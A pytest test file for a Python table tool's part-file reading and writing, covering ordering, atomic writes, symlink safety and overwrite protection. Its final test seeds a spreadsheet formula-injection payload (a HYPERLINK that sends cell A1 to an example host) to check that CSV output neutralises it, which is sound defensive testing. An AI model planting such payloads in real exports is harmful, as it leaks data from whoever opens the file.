"""A table as a folder of part files: read as one table, written whole or not at all."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from click.testing import CliRunner
from tests.tables.conftest import quota

from hubflow.cli.main import cli
from hubflow.model.input_problems import BadInput
from hubflow.reading.table_names import part_files
from hubflow.tables.input.table_files import expand_patterns
from hubflow.tables.output.table_writer import write_table


def rows(first: int, count: int) -> pl.DataFrame:
    return pl.DataFrame({
        "id": [f"v{number}" for number in range(first, first + count)],
        "call": ["all"] * count,
        "identify.group_size": [float(number * 37 % 11) for number in range(first, first + count)],
    })


def parts(folder: Path, *names: str) -> Path:
    """A folder of CSV part files of three rows each."""
    folder.mkdir(parents=True)
    for number, name in enumerate(names):
        rows(3 * number, 3).write_csv(folder / name)
    return folder


@pytest.fixture
def hub(hub_of: Any, tmp_path: Path) -> str:
    hub_of(quota(5))
    return str(tmp_path / "hub0")


def run(*arguments: object, code: int = 0) -> str:
    done = CliRunner().invoke(cli, ["run", "--as-of", "2024-06-01", *map(str, arguments)])
    if code == 2 and isinstance(done.exception, BadInput):
        return str(done.exception)
    assert done.exit_code == code, f"{done.output}{done.stderr}"
    return done.output + done.stderr


SPARK = ("part-00000-6f2c-c000.csv", "part-00001-6f2c-c000.csv", "_SUCCESS", ".part-00000.crc")
DASK = (*(f"part.{number}.csv" for number in range(12)),)


@pytest.mark.parametrize("names", [SPARK, DASK], ids=["spark", "dask"])
@pytest.mark.parametrize("name", ["calls.csv", "calls"])
def test_a_folder_of_parts_is_one_table_in_the_order_of_its_numbers(
    hub: str, tmp_path: Path, names: tuple[str, ...], name: str
) -> None:
    folder = parts(tmp_path / name, *names)
    count = sum(name.startswith("part") for name in names)
    assert expand_patterns([folder]) == [folder / name for name in names[:count]]
    rows(0, 3 * count).write_csv(tmp_path / "one.csv")
    run("-p", hub, folder, "--out", tmp_path / "r.csv")
    run("-p", hub, tmp_path / "one.csv", "--out", tmp_path / "s.csv")
    assert (tmp_path / "r.csv").read_bytes() == (tmp_path / "s.csv").read_bytes()


def test_a_folder_of_dossiers_is_none(tmp_path: Path) -> None:
    folder = parts(tmp_path / "call", "part-00000.csv")
    (folder / "venture.toml").write_text("", "utf-8")
    assert part_files(folder) == []
    assert part_files(parts(tmp_path / "sheets", "jury.csv")) == []
    table = parts(tmp_path / "table", "part-00000.csv", "~$open.xlsx", "jury-one.xlsx")
    assert part_files(table) == [table / "part-00000.csv"]
    assert part_files(tmp_path / "call" / "venture.toml") == []


def test_a_folder_named_as_a_table_without_parts_is_told(hub: str, tmp_path: Path) -> None:
    (tmp_path / "empty.parquet").mkdir()
    assert "this folder holds no part of a table" in run(
        "-p", hub, tmp_path / "empty.parquet", code=2)


@pytest.mark.parametrize("ending", ["parquet", "csv", "ndjson"])
def test_this_machine_writes_parts_that_say_what_the_file_says(
    hub: str, tmp_path: Path, ending: str
) -> None:
    rows(0, 20).write_parquet(tmp_path / "v.parquet")
    one, many = tmp_path / f"one.{ending}", tmp_path / f"many.{ending}"
    for _ in range(2):  # an earlier folder is replaced
        run("-p", hub, tmp_path / "v.parquet", "--out", many, "--parts")
    run("-p", hub, tmp_path / "v.parquet", "--out", one)
    read = {"parquet": pl.read_parquet, "csv": pl.read_csv, "ndjson": pl.read_ndjson}[ending]
    assert [path.name for path in many.iterdir()] == [f"part-00000.{ending}"]
    assert read(many / f"part-00000.{ending}").equals(read(one))  # type: ignore[operator]
    assert len(list(tmp_path.iterdir())) == 4


def test_dossiers_write_parts_too(tmp_path: Path) -> None:
    examples = Path(__file__).parents[2] / "examples"
    run("-p", "porto", examples / "percursos.toml", "--out", tmp_path / "r.csv", "--parts")
    assert [path.name for path in (tmp_path / "r.csv").iterdir()] == ["part-00000.csv"]
    said = run("-p", "porto", examples / "percursos.toml", "--parts", code=2)
    assert "--parts precisa de --out" in said


def test_a_part_for_each_table_and_nothing_where_one_fails(tmp_path: Path) -> None:
    def broken() -> Iterator[pl.DataFrame]:
        yield rows(0, 3)
        raise KeyboardInterrupt

    out = tmp_path / "r.parquet"
    write_table(out, iter([rows(0, 3), rows(3, 3)]), as_parts=True)
    assert [path.name for path in part_files(out)] == ["part-00000.parquet", "part-00001.parquet"]
    with pytest.raises(KeyboardInterrupt):
        write_table(out, broken(), as_parts=True)
    assert pl.read_parquet(out / "*.parquet").equals(rows(0, 6))
    assert list(tmp_path.iterdir()) == [out]


def test_what_is_no_part_is_never_replaced(tmp_path: Path) -> None:
    out = tmp_path / "r.parquet"
    out.mkdir()
    (out / "notes.txt").write_text("mine", "utf-8")
    with pytest.raises(BadInput, match=r"this folder holds notes\.txt, which is no part"):
        write_table(out, iter([rows(0, 1)]), as_parts=True)
    assert (out / "notes.txt").read_text("utf-8") == "mine"


def test_parts_follow_no_link_out_of_their_place(tmp_path: Path) -> None:
    away = parts(tmp_path / "away", "part-00000.csv")
    before = (away / "part-00000.csv").read_bytes()
    (tmp_path / "out.csv").symlink_to(away)
    write_table(tmp_path / "out.csv", iter([rows(9, 2)]), as_parts=True)
    assert [path.read_bytes() for path in away.iterdir()] == [before]
    assert not (tmp_path / "out.csv").is_symlink()
    assert [path.name for path in (tmp_path / "out.csv").iterdir()] == ["part-00000.csv"]


def test_a_folder_takes_the_place_of_a_file(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    out.write_text("before", "utf-8")
    write_table(out, iter([rows(0, 1)]), as_parts=True)
    assert [path.name for path in part_files(out)] == ["part-00000.csv"]
    with pytest.raises(BadInput, match="cannot be written"):
        write_table(out, iter([rows(0, 1)]))
    assert list(tmp_path.iterdir()) == [out]


def test_a_table_that_is_read_is_not_written_over(hub: str, tmp_path: Path) -> None:
    folder = parts(tmp_path / "v.csv", "part-00000.csv")
    for path in (folder, folder / "part-00000.csv"):
        said = run("-p", hub, path, "--out", folder, "--parts", code=2)
        assert "is read by this run, and would be lost" in said
    assert len(part_files(folder)) == 1


@pytest.mark.parametrize("as_parts", [False, True])
def test_a_portfolios_results_hold_no_formula(as_parts: bool, hub: str, tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://example.org/?x="&A1,"Open")'
    pl.DataFrame({"id": ["a", "b"], "name": [evil, " @SUM(1)"], "call": ["all", "all"],
                  "identify.group_size": [1.0, 2.0]}).write_parquet(tmp_path / "in.parquet")
    out = tmp_path / "out.csv"
    run("-p", hub, tmp_path / "in.parquet", "--out", out, *(["--parts"] if as_parts else []))
    for path in out.iterdir() if as_parts else [out]:
        text = path.read_text()
        assert "HYPERLINK" in text
        for row in csv.reader(text.splitlines()):
            assert not [cell for cell in row if cell.lstrip().startswith(("=", "@"))]
